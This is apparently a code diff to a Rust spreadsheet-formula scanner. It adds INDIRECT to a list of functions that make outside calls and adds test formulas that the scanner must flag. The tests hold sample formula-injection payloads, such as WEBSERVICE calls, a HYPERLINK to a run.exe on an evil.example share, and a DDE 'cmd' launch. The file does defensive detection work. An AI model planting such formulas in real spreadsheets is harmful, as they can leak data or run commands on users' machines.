@@ -18,6 +18,8 @@ pub(super) enum Grammar {
 /// Functions that call out, without what stands before their names.
 const FUNCTIONS: &[&str] = &[
     "WEBSERVICE",
+    // LibreOffice opens what its text names, wherever that is.
+    "INDIRECT",
     "RTD",
     "CALL",
     "REGISTER",
@@ -301,6 +303,8 @@ mod tests {
             "ＷＥＢＳＥＲＶＩＣＥ(A1)",
             "IF('a\"b'!A1,WEBSERVICE(\"http://x\"),1)",
             "RTD(\"x\",,\"y\")",
+            "SUM(OFFSET(INDIRECT(\"'http://x/[a.xlsx]S'!A1\"),1,1))",
+            "INDIRECT(B1)",
             "HYPERLINK(\"file:///c:/x\")",
             "HYPERLINK(\"\\\"&\"\\evil.example\\s\\run.exe\",\"x\")",
             "HYPERLINK(A1)",
@@ -346,6 +350,7 @@ mod tests {
             "of:=[x.ods#Sheet1.A1]",
             "oooc:='file:///x.ods'#Sheet1.A1",
             "of:=WEBSERVICE([.A1])",
+            "of:=INDIRECT(\"'http://x/'#$src.A1\")",
             "of:=COM.MICROSOFT.WEBSERVICE ([.A1])",
             "of:=IF([$'a\"b'.B1]=0;WEBSERVICE(\"http://x\");1)",
             "of:=cmd|'/c calc'!A0",
